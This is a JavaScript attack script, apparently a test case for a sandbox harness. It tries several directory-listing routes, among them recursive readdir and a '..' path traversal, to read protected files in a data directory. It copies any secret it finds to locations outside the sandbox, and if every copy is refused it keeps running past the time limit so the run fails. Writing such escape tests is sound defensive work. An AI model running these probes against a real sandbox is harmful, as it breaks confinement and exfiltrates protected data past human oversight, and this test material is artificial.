/* @attack {"title": "list the lakehouse (opendir, readdir, recursive, withFileTypes) and read every entry, the candidates file included", "maxSeconds": 20} */
import fs from 'node:fs';
import path from 'node:path';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

async function attempt(how, read) {
  try {
    await exfiltrate(how, await read());
  } catch (error) {
    console.log(`${how}: ${error.code ?? error.message}`);
  }
}

const readAll = async (how, names) => {
  for (const name of names) await attempt(`${how} -> ${name}`, () => fs.readFileSync(name));
};
try {
  const dir = fs.opendirSync('data/lakehouse');
  const names = [];
  for (let entry = dir.readSync(); entry; entry = dir.readSync()) names.push(path.join('data/lakehouse', entry.name));
  dir.closeSync();
  await readAll('opendirSync', names);
} catch (error) {
  console.log(`opendirSync: ${error.code}`);
}
try {
  const names = [];
  for await (const entry of await fs.promises.opendir('data/lakehouse')) names.push(path.join('data/lakehouse', entry.name));
  await readAll('promises.opendir', names);
} catch (error) {
  console.log(`promises.opendir: ${error.code}`);
}
try {
  const names = fs.readdirSync('data/lakehouse', { recursive: true, withFileTypes: true }).filter((d) => d.isFile()).map((d) => path.join(d.parentPath ?? d.path, d.name));
  await readAll('readdirSync recursive', names);
} catch (error) {
  console.log(`readdirSync recursive: ${error.code}`);
}
try {
  const names = fs.readdirSync('data/lakehouse/ohlcv/..').map((n) => `data/lakehouse/ohlcv/../${n}`);
  await readAll('readdirSync ohlcv/..', names);
} catch (error) {
  console.log(`readdirSync ohlcv/..: ${error.code}`);
}
// Without a listing: the name is known anyway.
await attempt('known name', () => fs.readFileSync(path.join('data/lakehouse', 'portfolio_candidates.json')));
